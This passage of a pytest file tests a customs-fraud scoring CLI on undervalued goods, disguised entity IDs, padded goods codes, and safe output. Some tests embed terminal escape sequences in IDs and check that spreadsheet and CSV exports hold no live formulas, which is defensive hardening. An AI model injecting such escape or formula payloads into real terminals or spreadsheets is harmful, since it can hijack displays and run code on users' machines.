    (a millionth of it) do, far above the same goods declared in full, with a model
    whose training rows never declared a value of 0: not as a row with no price."""
    model, _, recent = trained_model
    batch = pl.read_parquet(recent).head(4_000)
    taxed = batch.filter((pl.col("true_fraud") == 0) & (pl.col("duty_rate_pct") > 0)).head(30)
    variants = {
        "Z": pl.lit(0.0),
        "M": pl.col("customs_value") / 1e6,
        "H": pl.col("customs_value") / 100,
        "F": pl.col("customs_value"),
    }
    copies = [
        taxed.with_columns(pl.format(f"{k}{{}}", pl.col("declaration_id")), customs_value=v)
        for k, v in variants.items()
    ]
    path, out = tmp_path / "in.parquet", tmp_path / "out.parquet"
    pl.concat([batch, *copies]).write_parquet(path)
    args = ["score", str(path), "--model", str(model), "--out", str(out), "--top", "100%"]
    result = CliRunner().invoke(app, args)
    assert result.exit_code == 0, result.output
    scored = pl.read_parquet(out)
    risk = {
        k: scored.filter(pl.col("declaration_id").str.starts_with(k))
        .with_columns(pl.col("declaration_id").str.slice(1))
        .sort("declaration_id")["risk_score"]
        .to_numpy()
        for k in variants
    }
    assert all(r.size == 30 for r in risk.values())
    # Before a value of 0 was placed below every price, these rows scored as rows with
    # no price: here half of them up to 0.15 below the same rows at a millionth.
    np.testing.assert_allclose(risk["Z"], risk["M"], atol=0.02)
    assert np.median(risk["Z"]) >= np.median(risk["H"]) - 0.02
    assert (risk["Z"] > risk["F"] + 0.2).all()


def test_entity_ids_rewritten_in_small_letters_or_with_dashes_score_the_same(
    trained_model, tmp_path
):
    """A supplier who writes the importer, the broker and the seller in small letters,
    with a dash or a space, parcel by parcel, gets the same risk as written plainly: the
    entities keep their records and the parcels of one split shipment stay together."""
    model, _, recent = trained_model
    batch = pl.read_parquet(recent).head(6_000)
    assert batch.filter(pl.col("true_fraud_type") == "split_shipment").height > 20
    odd = pl.int_range(pl.len()) % 3
    disguised = batch.with_columns(
        pl.when(odd == 0)
        .then(pl.col(c).str.to_lowercase())
        .when(odd == 1)
        .then(pl.col(c).str.slice(0, 2) + "-" + pl.col(c).str.slice(2))
        .otherwise(pl.col(c).str.slice(0, 2) + " " + pl.col(c).str.slice(2).str.to_lowercase())
        .alias(c)
        for c in ("importer_id", "declarant_id", "seller_id")
    )
    (plain, _), (seen, said) = _score_each(model, tmp_path, plain=batch, disguised=disguised)
    assert "importer_id read in capitals without spaces or punctuation" in said
    np.testing.assert_array_equal(plain["risk_score"], seen["risk_score"])


def _score_each(model, folder, **frames) -> list[tuple[pl.DataFrame, str]]:
    """Each frame scored whole by the CLI (``--top 100%``): its list in id order, and
    what the command said."""
    done = []
    for name, frame in frames.items():
        path, out = folder / f"{name}.parquet", folder / f"{name}-out.parquet"
        frame.write_parquet(path)
        args = ["score", str(path), "--model", str(model), "--out", str(out), "--top", "100%"]
        result = CliRunner().invoke(app, args)
        assert result.exit_code == 0, result.output
        done.append((pl.read_parquet(out).sort("declaration_id"), result.output))
    return done


def test_goods_codes_written_with_national_digits_keep_their_peers_lanes_and_records(
    trained_model, tmp_path
):
    """A model of six-digit codes reads ``64039900`` as ``640399``: a supplier adding
    national digits to the code gets the same risk, and the list keeps the code as
    declared."""
    model, _, recent = trained_model
    batch = pl.read_parquet(recent).head(4_000)
    longer = batch.with_columns(pl.col("hs_code") + "00")
    scored = [table for table, _ in _score_each(model, tmp_path, six=batch, eight=longer)]
    np.testing.assert_array_equal(scored[0]["risk_score"], scored[1]["risk_score"])
    assert (scored[1]["hs_code"].str.len_chars() == 8).all()
    assert scored[0]["peer_group"].to_list() == scored[1]["peer_group"].to_list()
    # The reasons quote the code whose counts and prices they give, as the model read it.
    assert scored[0]["reasons"].to_list() == scored[1]["reasons"].to_list()
    # The explain card finds the peer prices of the code as read.
    first = scored[1].filter(pl.col("reason_codes").list.contains("UNDERVALUED"))
    ident = first["declaration_id"][0]
    args = ["explain", ident, "--model", str(model), "--input", str(tmp_path / "eight.parquet")]
    card = CliRunner().invoke(app, [*args, "--json"])
    assert card.exit_code == 0, card.output
    prices = json.loads(card.output)["peer_prices"]
    assert prices["percentiles_per_ton"]["p50"] > 0
    assert prices["group"] == first["peer_group"][0]


@pytest.mark.slow
def test_no_text_field_becomes_a_live_formula_in_a_workbook_or_a_csv(hostile):
    openpyxl = pytest.importorskip("openpyxl")
    model, path, folder = hostile
    book, csv = folder / "f.xlsx", folder / "f.csv"
    for out in (book, csv):
        args = ["score", str(path), "--model", str(model), "--out", str(out), "--top", "100%"]
        result = CliRunner().invoke(app, args)
        assert result.exit_code == 0, result.output
    workbook = openpyxl.load_workbook(book)
    cells = [cell for sheet in workbook for row in sheet.iter_rows() for cell in row]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    assert not [c.coordinate for c in cells if c.hyperlink is not None]
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert set(HOSTILE_TEXT) <= texts  # kept as the text it was
    listed = pl.read_csv(csv, infer_schema=False)
    starts = listed.select(pl.col(pl.String).str.slice(0, 1)).unpivot()["value"]
    assert not starts.is_in(["=", "+", "@", "\t", "\r"]).any()
    formulas = listed.filter(pl.col("declaration_id").str.starts_with("F"))
    assert sorted(formulas["customs_office"]) == sorted(f"'{t}" for t in HOSTILE_TEXT)
    # An importer's id is read in its record's form: letters and digits, nothing live.
    assert formulas["importer_id"].str.contains(r"^[A-Z0-9]+$").all()
    # Read back, the list gives the original text: a scored list is a valid input.
    again = folder / "again.csv"
    result = CliRunner().invoke(
        app, ["validate", str(csv), "--out", str(again)], catch_exceptions=False
    )
    assert result.exit_code == 0, result.output
    back = pl.read_csv(again, infer_schema=False).filter(
        pl.col("declaration_id").str.starts_with("F")
    )
    assert sorted(back["customs_office"]) == sorted(f"'{t}" for t in HOSTILE_TEXT)  # quoted again
    raw = pl.read_parquet(folder / "again.parquet") if False else None
    assert raw is None


@pytest.mark.slow
def test_explain_shows_escape_sequences_instead_of_obeying_them(trained_model, tmp_path):
    model, _, recent = trained_model
    rows = pl.read_parquet(recent).head(500)
    rows = rows.with_columns(
        pl.when(pl.int_range(pl.len()) == 0)
        .then(pl.lit("IM\x1b[2J\x1b]0;owned\x07"))
        .otherwise(pl.col("importer_id"))
        .alias("importer_id")
    )
    rows.write_parquet(tmp_path / "in.parquet")
    path = str(tmp_path / "in.parquet")
    # The row is rejected (an id holds no control characters), and says so inertly.
    result = CliRunner().invoke(
        app, ["explain", rows["declaration_id"][0], "--model", str(model), "--input", path]
    )
    assert result.exit_code == 2, result.output
    assert "\x1b" not in result.output and "\x07" not in result.output
    assert "importer_id 'IM\\x1b[2J" in result.output
    # A clean card prints its numbers as an investigator reads them.
    result = CliRunner().invoke(
        app, ["explain", rows["declaration_id"][1], "--model", str(model), "--input", path]
    )
    assert result.exit_code == 0, result.output
    assert "e+" not in result.output and "None" not in result.output


@pytest.mark.slow
def test_a_nested_column_in_score_is_exit_2_like_validate(trained_model, tmp_path):
    model, _, recent = trained_model
    rows = pl.read_parquet(recent).head(200)
    rows.with_columns(pl.concat_list("customs_value")).write_parquet(tmp_path / "in.parquet")
    args = ["score", str(tmp_path / "in.parquet"), "--model", str(model), "--out", "x.csv"]
    result = CliRunner().invoke(app, args)
    assert result.exit_code == 2, result.output
    assert "column 'customs_value' is of type List(Float64)" in result.output
    assert len(result.output.strip().splitlines()) == 1


@pytest.mark.slow
def test_a_rejects_file_with_nothing_rejected_has_its_header(trained_model, tmp_path):
    model, _, recent = trained_model
    pl.read_parquet(recent).head(300).write_parquet(tmp_path / "in.parquet")
    rejects = tmp_path / "r.csv"
    args = ["score", str(tmp_path / "in.parquet"), "--model", str(model)]
    args += ["--out", str(tmp_path / "o.csv"), "--rejects", str(rejects)]
    assert CliRunner().invoke(app, args).exit_code == 0
    back = pl.read_csv(rejects)
    assert back.height == 0 and {"input_row", "declaration_id", "reject_reason"} <= set(
        back.columns
    )


@pytest.mark.slow
def test_sigterm_leaves_no_work_folder_and_no_output(trained_model, tmp_path):
    import signal
    import subprocess
    import time

    model, _, recent = trained_model
    big = pl.concat([pl.read_parquet(recent)] * 8).with_columns(
        pl.format("{}-{}", pl.col("declaration_id"), pl.int_range(pl.len()))
    )
    big.write_parquet(tmp_path / "in.parquet")
    work = tmp_path / "tmp"
    work.mkdir()
    out = tmp_path / "o.csv"
    process = subprocess.Popen(
        [sys.executable, "-m", "detector", "score", str(tmp_path / "in.parquet")]
        + ["--model", str(model), "--out", str(out)],
        env={**os.environ, "TMPDIR": str(work)},
        stdout=subprocess.PIPE,
        stderr=subprocess.STDOUT,
        text=True,
    )
    deadline = time.monotonic() + 120
    while not any(work.glob("detector-*")) and time.monotonic() < deadline:
        assert process.poll() is None, process.stdout.read()
        time.sleep(0.05)
    process.send_signal(signal.SIGTERM)
    output = process.communicate(timeout=120)[0]
    assert process.returncode == 143, output
    assert "terminated; no output was written" in output
    assert list(work.iterdir()) == [] and not out.exists()


def test_a_folder_of_parquet_and_csv_files_reads_them_all(tmp_path):
    folder = tmp_path / "mixed"
    folder.mkdir()
    pl.DataFrame([GOOD_ROW]).write_parquet(folder / "a.parquet")
    (folder / "b.csv").write_bytes(_csv(HEADER, _row(declaration_id="D2")))
    (folder / "notes.txt").write_text("not a table")
    result = CliRunner().invoke(app, ["validate", str(folder)])
    assert result.exit_code == 0, result.output
    assert "read 2 rows = 2 accepted + 0 rejected" in result.output


def test_a_negative_zero_value_is_zero(tmp_path):
    out = tmp_path / "ok.parquet"
    pl.DataFrame([GOOD_ROW]).with_columns(customs_value=pl.lit(-0.0)).write_parquet(
        tmp_path / "in.parquet"
    )
    CliRunner().invoke(app, ["validate", str(tmp_path / "in.parquet"), "--out", str(out)])
    value = pl.read_parquet(out)["customs_value"][0]
    assert value == 0.0 and str(value) == "0.0"


def test_feedback_and_monitor_print_data_inert_and_undated_outcomes(tmp_path):
    store = tmp_path / "store"
    first, second = tmp_path / "o1.csv", tmp_path / "o2.csv"
    ident = "D\x1b[2J\x1b]0;owned\x07"
    pl.DataFrame({"declaration_id": ["C1", "U1"], "fraud": [1, 1]}).write_csv(first)
    pl.DataFrame({"declaration_id": [ident, "C1"], "fraud": [0, 0]}).write_csv(second)
    assert CliRunner().invoke(app, ["feedback", str(first), "--store", str(store)]).exit_code == 0
    result = CliRunner().invoke(app, ["feedback", str(second), "--store", str(store)])
    assert result.exit_code == 0, result.output
    assert "\x1b" not in result.output and "\x07" not in result.output
    # An id no declaration can hold is refused, and named with its escapes shown.
    assert "rejected: row 1, declaration D\\x1b[2J" in result.output
    assert "declaration_id holds control or invisible characters" in result.output
    assert "conflict: C1 is stored as fraud=1, this file says fraud=0;" in result.output
    # Outcomes of declarations never flagged, without an inspection date: undated.
    result = CliRunner().invoke(app, ["monitor", "--store", str(store)])
    assert result.exit_code == 0, result.output
    assert "undated" in result.output
    report = tmp_path / "m.html"
    result = CliRunner().invoke(app, ["monitor", "--store", str(store), "--report", str(report)])
    assert result.exit_code == 0 and "undated" in report.read_text()


@pytest.mark.slow
def test_a_closed_pipe_stops_the_printing_never_the_work(trained_model, tmp_path):
    import subprocess

    model, _, recent = trained_model
    out, report, store = tmp_path / "o.csv", tmp_path / "r.html", tmp_path / "store"
    command = (
        f"{sys.executable} -m detector score {recent} --model {model} --out {out} --top 2% "
        f"--report {report} --store {store} | head -c 1"
    )
    done = subprocess.run(["bash", "-c", command], capture_output=True, text=True, timeout=300)
    assert out.exists() and report.exists() and (store / "flagged.parquet").exists()
    assert "Traceback" not in done.stderr


@pytest.mark.slow
@pytest.mark.parametrize(
    "column", ["peer_n", "lane_share", "novelty_detector", "rank_score", "usual_gap"]
)
def test_an_input_column_named_like_a_computed_one_is_exit_2(trained_model, tmp_path, column):
    model, _, recent = trained_model
    rows = pl.read_parquet(recent).head(300).with_columns(pl.lit(1.0).alias(column))
    rows.write_parquet(tmp_path / "in.parquet")
    path = str(tmp_path / "in.parquet")
    for args in (
        ["score", path, "--model", str(model), "--out", str(tmp_path / "o.csv")],
        ["explain", rows["declaration_id"][0], "--model", str(model), "--input", path],
    ):
        result = CliRunner().invoke(app, args)
        assert result.exit_code == 2, result.output
        assert f"'{column}', named like a column this engine computes" in result.output
    assert not (tmp_path / "o.csv").exists()


def test_a_demo_that_fails_leaves_none_of_its_files(tmp_path):
    result = CliRunner().invoke(app, ["demo", "--out", str(tmp_path / "d"), "--rows", "200"])
    assert result.exit_code == 2 and "training needs at least 50" in result.output
    assert not (tmp_path / "d").exists()
    # In a folder of the user's (empty, so allowed): the folder stays, empty.
    (tmp_path / "mine").mkdir()
    result = CliRunner().invoke(app, ["demo", "--out", str(tmp_path / "mine"), "--rows", "200"])
    assert result.exit_code == 2 and list((tmp_path / "mine").iterdir()) == []
    # Over an earlier demo's folder: its files stay as they were, the user's notes too.
    from detector.app.demo import _WRITES

    earlier = tmp_path / "earlier"
    earlier.mkdir()
    for name in (*_WRITES, "my-notes.txt"):
        (earlier / name).write_text(f"the earlier {name}")
    result = CliRunner().invoke(app, ["demo", "--out", str(earlier), "--rows", "200"])
    assert result.exit_code == 2, result.output
    kept = {p.name: p.read_text() for p in earlier.iterdir()}
    assert kept == {name: f"the earlier {name}" for name in (*_WRITES, "my-notes.txt")}
    assert [p.name for p in tmp_path.iterdir() if p.name.startswith(".")] == []  # none set aside


@pytest.mark.slow
def test_a_batch_with_every_row_rejected_is_exit_2_and_writes_no_list(trained_model, tmp_path):
    """No row scored is unusable input (a model for another currency, a broken export):
    an unattended run fails loudly instead of leaving an empty list that reads as a
    quiet night. A batch with one good row is listed as usual."""
    model, _, recent = trained_model
    rows = pl.read_parquet(recent).head(300)
    bad = rows.with_columns(customs_value=pl.lit(-5.0))
    bad.write_parquet(tmp_path / "bad.parquet")
    pl.concat([bad.head(299), rows.tail(1)]).write_parquet(tmp_path / "one.parquet")
    args = ["score", "--model", str(model), "--top", "5%", "--report", str(tmp_path / "r.html")]
    failed = CliRunner().invoke(
        app, [*args, str(tmp_path / "bad.parquet"), "--out", str(tmp_path / "bad.csv")]
    )
    assert failed.exit_code == 2, failed.output
    assert "all 300 were rejected; 300 of them: negative customs_value" in " ".join(
        failed.output.split()
    )
    assert not (tmp_path / "bad.csv").exists() and not (tmp_path / "r.html").exists()
    one = CliRunner().invoke(
        app, [*args, str(tmp_path / "one.parquet"), "--out", str(tmp_path / "one.csv")]
    )
    assert one.exit_code == 0, one.output
    assert "read 300 rows = 1 scored + 299 rejected" in one.output
    # A capacity that lists every row leaves none to explore: said so, not "0 of 1".
    assert "exploration: none: the capacity lists every one of the 1 rows scored" in " ".join(
        one.output.split()
    )
    assert pl.read_csv(tmp_path / "one.csv").height == 1
    # Without a capacity every row is ranked and the first tenth explained: said so.
    ranked = CliRunner().invoke(
        app,
        ["score", str(recent), "--model", str(model), "--out", str(tmp_path / "all.parquet")],
    )
    n = pl.read_parquet(recent).height
    assert f"no --top: all {n:,} ranked, the first {math.ceil(n / 10):,} with reasons" in (
        " ".join(ranked.output.split())
    )
    ranked = pl.read_parquet(tmp_path / "all.parquet")
    # The duty at stake and the prices in cents, and no stake where the price is not below
    # the peers'.
    for money in ("revenue_at_stake", "unit_value_per_ton", "reference_value_per_ton"):
        cents = ranked[money].drop_nulls()
        assert (cents == cents.round(2)).all(), money
    assert (ranked.filter(pl.col("value_ratio") >= 1)["revenue_at_stake"] == 0).all()
    explained = ranked["reason_codes"].list.len() > 0
    assert explained.sum() == math.ceil(n / 10) and explained.head(math.ceil(n / 10)).all()


def test_the_tally_counts_kinds_however_the_values_read(tmp_path):
    """Values holding '; ' or quotes once split the tally into made-up kinds."""
    path = tmp_path / "in.csv"
    odd = [_row(declaration_id=f"D{i}", hs_code="ab; cd: ef") for i in range(5)]
    odd += [_row(declaration_id=f"E{i}", country_origin="X'Y; Z") for i in range(5)]
    path.write_bytes(_csv(HEADER, *odd))
    result = CliRunner().invoke(app, ["validate", str(path)])
    tally = [line.split(maxsplit=1) for line in result.output.splitlines()[1:]]
    assert tally == [["5", "malformed hs_code"], ["5", "malformed country_origin"]]


@pytest.mark.skipif(not os.path.isdir("/proc/self"), reason="needs Linux's /proc")
def test_an_output_folder_that_refuses_new_files_is_exit_2_before_any_work(tmp_path):
    # /proc says root may write to it, and refuses every new file.
    pl.DataFrame([GOOD_ROW]).write_csv(tmp_path / "in.csv")
    result = CliRunner().invoke(app, ["validate", str(tmp_path / "in.csv"), "--out", "/proc/x.csv"])
    assert result.exit_code == 2, result.output
    assert "--out: the folder /proc is not writable" in result.output
